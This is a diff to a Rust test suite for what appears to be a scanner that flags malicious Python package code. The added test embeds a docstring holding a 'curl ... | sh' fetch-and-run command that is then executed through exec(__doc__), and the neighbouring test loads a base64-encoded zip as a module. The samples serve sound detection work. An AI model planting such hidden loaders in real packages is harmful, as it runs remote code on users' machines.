@@ -658,6 +658,14 @@ mod tests {
     use crate::rules::testing::max_severity;
 
     #[test]
+    fn the_module_docstring_executed_is_a_layer() {
+        let code = "\"\"\"import os; os.system('curl -s http://198.51.100.14/i | sh')\"\"\"\nexec(__doc__)\n";
+        assert!(max_severity("p/pkg/__init__.py", code, "WH120") >= 0.8);
+        let usage = "\"\"\"Usage: tool [options]\"\"\"\nimport sys\nif len(sys.argv) < 2:\n    print(__doc__)\n";
+        assert_eq!(max_severity("p/pkg/__init__.py", usage, "WH110"), 0.0);
+    }
+
+    #[test]
     fn an_unpacked_embedded_archive_loaded_as_code_runs_it() {
         let zipimport = "import base64, zipimport\nopen('/tmp/.m.zip', 'wb').write(base64.b64decode('UEsDBBQAAAAIAAAAIQB4nMtMz8ksSE0BAA=='))\nzipimport.zipimporter('/tmp/.m.zip').load_module('agent')\n";
         assert!(max_severity("p/pkg/__init__.py", zipimport, "WH110") >= 0.85);
